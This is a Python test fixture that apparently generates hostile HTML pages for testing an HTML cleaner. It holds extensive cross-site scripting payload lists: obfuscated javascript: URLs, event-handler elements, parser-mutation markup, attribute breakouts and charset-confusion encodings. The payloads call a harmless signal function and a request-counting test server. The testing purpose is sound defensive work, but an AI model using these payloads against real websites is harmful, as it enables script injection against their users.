"""Hostile pages: payloads that would run a script or send a request, combined with places in a page.

``JS`` stands for a script that gives itself away, and ``URL`` for the address of a server that counts requests.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from dataclasses import dataclass

from attacks.chromium import SIGNAL

JS = f"{SIGNAL}(Date())"
"""A call without quotes, so that it fits into every attribute."""

JAVASCRIPT = (
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java\rscript:JS",
    "java\0script:JS",
    "\x01javascript:JS",
    " \t\njavascript:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "javascript&#x3A;JS",
    "java&#9;script:JS",
    "java&#10;script:JS",
    "java&Tab;script:JS",
    "java&NewLine;script:JS",
    "&#106;avascript:JS",
    "&#0000106avascript:JS",
    "&#x6A&#x61&#x76&#x61script:JS",
    "javascript:%0aJS",
    "javascript://%0aJS",
    "javascript:/*URL*/JS",
    "feed:javascript:JS",
    "view-source:javascript:JS",
    "vbscript:JS",
    "livescript:JS",
    "mocha:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,PHNjcmlwdD5uY2xlYW5lckhpdChEYXRlKCkpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
    "d\tata:text/html,<script>JS</script>",
    "blob:URL/blob",
    "filesystem:URL/file",
    "//URL/x",
    "\\\\URL\\x",
    "http:javascript:JS",
    "https:/\\URL",
    "\ufeffjavascript:JS",
    "\u2028javascript:JS",
    "javascript\u200b:JS",
    "jar:javascript:JS!/x",
)
"""Addresses that run a script, in the spellings that browsers have accepted."""

ELEMENTS = (
    "<script>JS</script>",
    "<SCRIPT>JS</SCRIPT>",
    "<script/x>JS</script >",
    "<script\n>JS</script\t>",
    "<script src=URL/script></script>",
    "<script src=//URL/script></script>",
    "<script type=module>JS</script>",
    "<script>/*<!--*/JS//--></script>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<script\0>JS</script>",
    "<<script>JS//<</script>",
    "<svg onload=JS>",
    "<svg/onload=JS>",
    "<svg\x0conload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><script href=URL/svg-script /></svg>",
    "<svg><script>&#110;cleanerHit(Date())</script></svg>",
    "<svg><a xlink:href='javascript:JS'><text>go</text></a></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:JS /></svg>",
    "<svg><use href='URL/use#x'/></svg>",
    "<svg><image href=URL/svg-image /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import 'URL/svg-style';</style></svg>",
    "<math><mtext><script>JS</script></mtext></math>",
    "<math href=javascript:JS>go</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:JS>go</maction></math>",
    "<img src=x onerror=JS>",
    "<img/src=x/onerror=JS>",
    "<img src=URL/img>",
    "<img srcset='URL/srcset 2x'>",
    "<image src=x onerror=JS>",
    "<img src=x:x onerror='JS'//",
    "<picture><source srcset=URL/picture><img></picture>",
    "<iframe src=javascript:JS></iframe>",
    "<iframe src=URL/iframe></iframe>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=JS&gt;'></iframe>",
    "<iframe onload=JS></iframe>",
    "<frameset onload=JS><frame src=URL/frame></frameset>",
    "<object data=javascript:JS></object>",
    "<object data=URL/object></object>",
    "<object type=text/html data='data:text/html,<script>JS</script>'></object>",
    "<embed src=javascript:JS>",
    "<embed src=URL/embed>",
    "<applet code=JS codebase=URL/applet></applet>",
    "<portal src=URL/portal></portal>",
    "<video src=x onerror=JS></video>",
    "<video autoplay poster=URL/poster src=URL/video></video>",
    "<video><source onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<audio autoplay src=URL/audio></audio>",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<body background=URL/background>",
    "<html onload=JS>",
    "<input autofocus onfocus=JS>",
    "<input type=image src=URL/input>",
    "<input type=image src=x onerror=JS>",
    "<select autofocus onfocus=JS><option>x</select>",
    "<textarea autofocus onfocus=JS>x</textarea>",
    "<button autofocus onfocus=JS>x</button>",
    "<form action=javascript:JS><button autofocus onfocus=this.form.submit()>go</button></form>",
    "<form><button formaction=javascript:JS autofocus onfocus=this.click()>go</button></form>",
    "<details open ontoggle=JS>x</details>",
    "<dialog open onclose=JS><form method=dialog>x</form></dialog>",
    "<marquee onstart=JS>x</marquee>",
    "<p tabindex=0 autofocus onfocus=JS>x</p>",
    "<p style='animation-name:x' onanimationstart=JS><style>@keyframes x{}</style>x</p>",
    "<p onmouseover=JS onclick=JS>x</p>",
    "<style>@import 'URL/style';</style>",
    "<style>*{background:url(URL/style)}</style>",
    "<style>*{background:\\75rl(URL/style)}</style>",
    "<style>*{x:expression(JS);-moz-binding:url(URL/binding)}</style>",
    "<style>@font-face{font-family:x;src:url(URL/font)}*{font-family:x}</style>",
    "<p style='background:url(URL/style)'>x</p>",
    "<p style='width:expression(JS);behavior:url(URL/behavior);-moz-binding:url(URL/x)'>x</p>",
    "<link rel=stylesheet href=URL/link>",
    "<link rel=stylesheet href='data:text/css,@import%20\"URL/link\"'>",
    "<link rel=import href=URL/link>",
    "<link rel=prefetch href=URL/link>",
    "<link rel=preload as=script href=URL/link>",
    "<link rel=modulepreload href=URL/link>",
    "<link rel='dns-prefetch preconnect' href=URL/>",
    "<link rel=icon href=URL/link>",
    "<link rel=manifest href=URL/link>",
    "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>",
    (
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline' *\">"
        "<script>JS</script>"
    ),
    "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-",
    "<base href=javascript:JS//><a href=x>x</a>",
    "<base href=URL/base/><img src=x><a href=x>x</a>",
    "<table background=URL/table><td background=URL/cell>x</table>",
    "<bgsound src=URL/sound><layer src=URL/layer></layer><isindex action=javascript:JS>",
    "<a href=URL/ping ping=URL/ping autofocus onfocus=this.click()>x</a>",
    "<template shadowrootmode=open><script>JS</script><img src=URL/shadow></template>",
    "<template><script>JS</script></template>",
    "<xss id=x tabindex=1 autofocus onfocus=JS>x</xss>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL/rule"]}]}</script>',
    "<?xml-stylesheet href=URL/xsl ?><?php <script>JS</script> ?>",
    "<!DOCTYPE x SYSTEM 'URL/dtd' [<!ENTITY x '<script>JS</script>'>]>&x;",
)
"""Elements that run a script or send a request."""

MUTATIONS = (
    '<noscript><p title="</noscript>PAYLOAD">',
    "<noscript><style></noscript>PAYLOAD",
    '<noembed><img title="</noembed>PAYLOAD">',
    "<noframes><p title='</noframes>PAYLOAD'>",
    "<title></title>PAYLOAD",
    "<title>&lt;/title&gt;PAYLOAD</title>",
    "<textarea></textarea>PAYLOAD</textarea>",
    "<textarea>&lt;/textarea&gt;PAYLOAD</textarea>",
    "<xmp></xmp>PAYLOAD",
    "<xmp><p title='</xmp>PAYLOAD'>",
    "<template><p title='</template>PAYLOAD'>",
    "<style><!--</style>PAYLOAD--></style>",
    "<svg><style><p title='</style>PAYLOAD'></style>",
    "<svg></p><style><a title='</style>PAYLOAD'>",
    "<svg><title><p title='</title>PAYLOAD'>",
    "<svg><desc><table><mglyph><style><!--</style>PAYLOAD-->",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;PAYLOAD'>",
    "<math><annotation-xml encoding='text/html'><style><p title='</style>PAYLOAD'>",
    "<form><math><mtext></form><form><mglyph><style></math>PAYLOAD",
    "<select><style></select>PAYLOAD</style></select>",
    "<table><caption><svg><p><style></table>PAYLOAD",
    '<svg><![CDATA[><p title="]]>PAYLOAD">]]>',
    "<![CDATA[PAYLOAD]]>",
    "<!-->PAYLOAD-->",
    "<!--->PAYLOAD-->",
    "<!-- --!>PAYLOAD-->",
    "<!--<!-->PAYLOAD-->-->",
    "<! PAYLOAD>",
    "</ x>PAYLOAD",
    "<plaintext>PAYLOAD",
    "</ncleaner-legend></body></html>PAYLOAD",
    "</ins></del></title></style>PAYLOAD",
    "<ins title='PAYLOAD'>x</ins>",
    "<pre>\n</pre>PAYLOAD<listing>\n</listing>",
)
"""Markup in which one parser sees text, and another one an element."""

PAIRS = ("<script>JS</script>", "<img src=x onerror=JS>", "<iframe src=URL/mutation></iframe>")
"""The payloads for `MUTATIONS`."""

BREAKS = (
    '"><script>JS</script>',
    "'><script>JS</script>",
    "><script>JS</script>",
    '" onmouseover=JS autofocus onfocus=JS tabindex=1 x="',
    "' onmouseover=JS autofocus onfocus=JS tabindex=1 x='",
    " onfocus=JS autofocus tabindex=1 ",
    "` onfocus=JS autofocus tabindex=1 `",
    "&quot;&gt;&lt;script&gt;JS&lt;/script&gt;",
    "&#34;><img src=x onerror=JS>",
    "--><script>JS</script><!--",
    "]]><script>JS</script>",
    "</title></style></textarea></script><script>JS</script>",
    '\0"><script>JS</script>',
    '\u2028"><img src=URL/break>',
)
"""Text that leaves an attribute, a comment, a title or a script."""

PARAGRAPH = (
    "The ferry left the harbour before the sun had risen over the hills, and the fishermen who had mended their nets "
    "all night went home to sleep, as they had done every day of that long and quiet summer."
)


@dataclass(frozen=True, slots=True)
class HostilePage:
    """A hostile page: its name, its bytes, and the arguments with which it is cleaned."""

    name: str
    source: bytes
    url: str | None = None
    encoding: str | None = None
    kind: str = "html"


def collection(address: str) -> list[HostilePage]:
    """Return the whole collection; requests go to ``address``."""
    return [page for make in (_elements, _addresses, _breaks, _encodings, _urls) for page in make(address)]


def _filled(payload: str, address: str) -> str:
    payload = payload.replace("//URL", address.removeprefix("http:")).replace("\\\\URL", address.replace("/", "\\"))
    return payload.replace("URL", address).replace("JS", JS)


def _markup(address: str) -> Iterator[str]:
    """Yield all payloads that are markup."""
    for payload in ELEMENTS:
        yield _filled(payload, address)
    for mutation in MUTATIONS:
        for payload in PAIRS:
            yield _filled(mutation.replace("PAYLOAD", payload), address)


PLACES = {
    "kept text": "<title>Ferry</title><article><h1>The ferry</h1><p>{text} {payload} {text}</p></article>",
    "a block of its own": "<title>Ferry</title><article><p>{text}</p>{payload}<p>{text}</p></article>",
    "text that reads like markup": "<title>Ferry</title><article><p>{text} {escaped} {text}</p></article>",
    "dropped text": "<nav><ul><li><a href=/>Home {payload}</a> | <a href=/x>{escaped}</a></ul></nav><p>{text}",
    "the head": "<head>{payload}<title>Ferry {escaped}</title></head><p>{text}",
    "the title": "<title>Ferry {payload}</title><p>{text}",
    "an attribute": '<p title="{payload}" class="{payload}" id="{payload}">{text}',
    "JSON-LD": '<script type="application/ld+json">{json}</script><p>{text}',
    "code": "<pre><code>{payload}{escaped}</code></pre><p>{text}",
    "a table": "<table><tr><td>{payload}<td colspan=2>{escaped}<th>{text}</table>",
}
"""Where markup is put: the payload as it is, with its markup escaped, or as a string of JSON."""


def _elements(address: str) -> Iterator[HostilePage]:
    for place, template in PLACES.items():
        for payload in _markup(address):
            linked = {"@type": "NewsArticle", "headline": payload, "author": payload, "url": payload}
            page = template.format(
                payload=payload, escaped=html.escape(payload), json=json.dumps(linked), text=PARAGRAPH
            )
            yield HostilePage(f"{payload} in {place}", page.encode())


LINKS = (
    '<p>{text} <a href="{payload}">a link</a>',
    "<p>{text} <a href='{payload}' target=_top><b>a link</b></a> <area href='{payload}'>",
    "<base href='{payload}'><p>{text} <a href=x>a link</a> <a href='#x'>another</a>",
    "<link rel=canonical href='{payload}'><meta property=og:url content='{payload}'><p>{text} <a href=x>a link</a>",
    "<p>{text}<blockquote cite='{payload}'>quote</blockquote><q cite='{payload}'>q</q><ins cite='{payload}'>i</ins>",
    "<nav><a href='{payload}'>Home</a> <a href='{payload}'>News</a></nav><p>{text}",
)


def _addresses(address: str) -> Iterator[HostilePage]:
    for payload in JAVASCRIPT:
        for number, template in enumerate(LINKS):
            page = template.format(payload=_filled(payload, address), text=PARAGRAPH)
            yield HostilePage(f"{payload!r} in link {number}", page.encode())


QUOTED = (
    '<p title="{payload}">{text}',
    "<p title='{payload}'>{text}",
    "<p title={payload}>{text}",
    '<p lang="{payload}" dir="{payload}" class="{payload}" id="{payload}">{text}',
    '<html lang="{payload}"><p>{text}',
    '<p>{text} <a href="http://example.org/{payload}">a link</a>',
    "<p>{text} <a href='x?{payload}' title='{payload}' rel='{payload}'>a link</a>",
    '<p>{text} <img alt="{payload}" src="{payload}">',
    '<table><td colspan="{payload}" rowspan="2{payload}">{text}</table>',
    '<meta name=author content="{payload}"><meta name=description content="{payload}"><p>{text}',
    '<meta property=og:title content="{payload}"><meta property=og:site_name content="{payload}"><p>{text}',
    '<meta name=date content="2020-01-01{payload}"><time datetime="{payload}">today</time><p>{text}',
    "<!-- {payload} --><p>{text}",
    "<title>{payload}</title><h1>{payload}</h1><p>{text}",
    "<p>{text} &lt;b&gt; {payload}",
)


def _breaks(address: str) -> Iterator[HostilePage]:
    for payload in BREAKS:
        for number, template in enumerate(QUOTED):
            page = template.format(payload=_filled(payload, address), text=PARAGRAPH)
            yield HostilePage(f"{payload!r} in attribute {number}", page.encode())
        text = f"{PARAGRAPH}\n\n{_filled(payload, address)}\n\n> {_filled(payload, address)}\n"
        yield HostilePage(f"{payload!r} in plain text", text.encode(), kind="text")


ENCODINGS = (
    "utf-16-le",
    "utf-16-be",
    "utf-32-le",
    "utf-7",
    "iso2022_jp",
    "shift_jis",
    "gb18030",
    "cp037",
    "euc-kr",
    "hz",
)
DECLARED = (None, "utf-7", "iso-2022-jp", "utf-16", "x-user-defined", "replacement", "hz-gb-2312")


def _encodings(address: str) -> Iterator[HostilePage]:
    """Yield pages whose bytes are markup in one encoding and text in another."""
    for payload in ("<script>JS</script>", "<img src=URL/encoding onerror=JS>", "\x1b$B<script>JS</script>\x1b(B"):
        page = f"<title>Ferry</title><p>{PARAGRAPH} {_filled(payload, address)}"
        for name in ENCODINGS:
            for declared in DECLARED:
                head = f"<meta charset={declared}>" if declared else ""
                source = head.encode() + page.encode(name, "replace")
                yield HostilePage(f"{payload!r} in {name}, declared as {declared}", source)


def _urls(address: str) -> Iterator[HostilePage]:
    """Yield ordinary pages with hostile addresses of their own."""
    for payload in (*JAVASCRIPT, *BREAKS):
        page = f"<p>{PARAGRAPH} <a href=x>a link</a> <a href='#y'>another</a> <a href='?z'>one more</a>"
        yield HostilePage(f"{payload!r} as url", page.encode(), url=_filled(payload, address))
        page = f"<title></title>{page}"
        yield HostilePage(
            f"{payload!r} behind a url", page.encode(), url=f"http://example.org/{_filled(payload, address)}"
        )
